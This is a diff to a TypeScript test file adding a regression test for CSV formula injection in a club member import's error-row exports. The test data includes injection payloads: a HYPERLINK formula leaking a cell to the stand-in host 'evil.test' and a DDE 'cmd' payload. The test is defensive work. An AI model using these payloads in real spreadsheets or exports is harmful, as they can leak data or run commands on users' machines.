@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import writeExcelFile from 'write-excel-file/node';
 import { buildApp } from '../../server/app.js';
 import { loadConfig } from '../../server/config.js';
-import { bearer, createTestApp, getAs, type TestApp } from './testApp.js';
+import { bearer, createOperator, createTestApp, getAs, type TestApp } from './testApp.js';
 import { buildHandBuiltClub, type HandBuiltClub } from './clubStructureClub.js';
 
 /**
@@ -47,7 +47,7 @@ async function finished(token: string, importId: string) {
 
 async function previewAndRun(content: string, createTeams = true) {
   const answer = await preview(club.managerToken, content);
-  expect(answer.statusCode).toBe(200);
+  expect(answer.statusCode, answer.body).toBe(200);
   const { importId } = answer.json();
   expect((await run(club.managerToken, { importId, createTeams })).statusCode).toBe(202);
   return { preview: answer.json(), status: await finished(club.managerToken, importId) };
@@ -215,6 +215,50 @@ describe('running an import', () => {
     expect((await getAs(t.app, other.managerToken, `/api/Import/ErrorRows?importId=${importId}`)).statusCode).toBe(404);
     const stored = await t.db.selectFrom('member_imports').select('state').where('id', '=', importId).executeTakeFirstOrThrow();
     expect(stored.state).toBe('previewed');
+  });
+});
+
+/** The cells of a CSV file separated by `separator` (RFC 4180 quoting), to see each cell as a spreadsheet does. */
+function csvCells(text: string, separator: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === separator) { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
+  }
+  if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row); }
+  return rows;
+}
+
+describe('the files of rows in error (issue 41: formula injection)', () => {
+  it('write every cell a spreadsheet would run as a formula as text, with a quote before it, for managers and operators alike', async () => {
+    const formulas = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', '+SUM(1,1)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1'];
+    const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
+    const content = ['firstName,lastName,email,phoneNumber', ...formulas.map((formula, n) => `${quote(formula)},Kok${n},${quote(formula)},${quote(formula)}`)].join('\r\n');
+    const { preview: shown, status } = await previewAndRun(content);
+    expect(status.errors).toHaveLength(formulas.length);
+
+    const operator = await createOperator(t, 'csv.operator@touchline.test');
+    const files = [
+      (await getAs(t.app, club.managerToken, `/api/Import/ErrorRows?importId=${shown.importId}`)).body.replace(/^\uFEFF/, ''),
+      (await t.app.inject({ method: 'GET', url: `/admin/rest/imports/${shown.importId}/errors.csv`, headers: operator.headers })).body,
+    ];
+    for (const file of files) {
+      const cells = csvCells(file, ';');
+      expect(cells).toHaveLength(formulas.length + 1);
+      const written = cells.flat();
+      // No cell of the file starts as a formula; each formula of the file is there, as text.
+      expect(written.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      const firstNames = cells.slice(1).map((row) => row[0]);
+      for (const formula of formulas) expect(firstNames).toContain(/^[=+\-@\t\r]/.test(formula.trim()) ? `'${formula.trim()}` : `'${formula}`);
+      // Quoted as OWASP says, so the quote and the formula are one cell whatever the separator.
+      expect(file).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
+    }
   });
 });
 
